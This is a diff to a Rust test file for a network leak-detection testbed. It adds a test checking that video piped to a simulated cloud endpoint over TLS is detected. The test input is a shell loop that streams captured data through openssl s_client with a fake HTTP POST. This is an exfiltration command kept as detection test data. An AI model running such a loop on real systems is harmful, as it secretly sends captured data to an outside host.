@@ -3,6 +3,7 @@
 use testbed::report::CheckJson;
 use testbed::verdict::Verdict;
 
+use crate::sites;
 use crate::support::{ONE_RUN, Place, assert_judged_alike, runs_of, say};
 
 const SITE: &str = include_str!("taint.yaml");
@@ -10,8 +11,13 @@ const SITE: &str = include_str!("taint.yaml");
 /// The check `stays` of a run in which the host does this with what it hears.
 #[track_caller]
 fn judged(tells: &str) -> CheckJson {
+    judged_of(SITE, tells)
+}
+
+#[track_caller]
+fn judged_of(site: &str, tells: &str) -> CheckJson {
     let place = Place::new();
-    let scenario = place.write("site/overheard.yaml", SITE.replace("TELLS", tells));
+    let scenario = place.write("site/overheard.yaml", site.replace("TELLS", tells));
     let mut run = place.run(&scenario);
     run.args(["--json", "-", "--allow-run"]);
     let said = say(run, ONE_RUN);
@@ -81,4 +87,22 @@ fn video_that_is_told_as_it_is_in_large_datagrams_is_found() {
     assert_found(&check, "raw in an IP packet that came in pieces");
     // Both ends have the desk's errors, which quote what it has no use for.
     assert_found(&check, "raw quoted in an ICMP error");
+}
+
+#[test]
+fn video_that_is_told_to_the_cloud_in_tls_is_found() {
+    let cloud = "  clouds:\n    aws: { segment: office, region: eu-west-1, address: 10.2.0.10 }\n  hosts:\n";
+    let site = sites::changed(SITE, "  hosts:\n", cloud);
+    let head = "POST / HTTP/1.1\\\\r\\\\nHost: logs.eu-west-1.amazonaws.com\\\\r\\\\nContent-Length: 9000000\\\\r\\\\n\\\\r\\\\n";
+    let tls = "openssl s_client -quiet -connect 10.2.0.10:443 -servername logs.eu-west-1.amazonaws.com";
+    let tells = format!("while sleep 0.2; do {{ printf '{head}'; {HEARS}; }} | {tls}; done");
+    let check = judged_of(&site, &tells);
+    let texts: Vec<_> = check.findings.iter().map(|finding| finding.text.as_str()).collect();
+    assert_eq!((check.verdict, texts.len()), (Verdict::Fail, 2), "{texts:#?} {:#?}", check.reasons);
+    for tap in ["aws.eth0", "ear.eth1"] {
+        let begins = format!("video of door at {tap}: ");
+        let found =
+            texts.iter().any(|text| text.starts_with(&begins) && text.contains("raw inside a TLS session"));
+        assert!(found, "no `{begins}` inside TLS in {texts:#?}");
+    }
 }
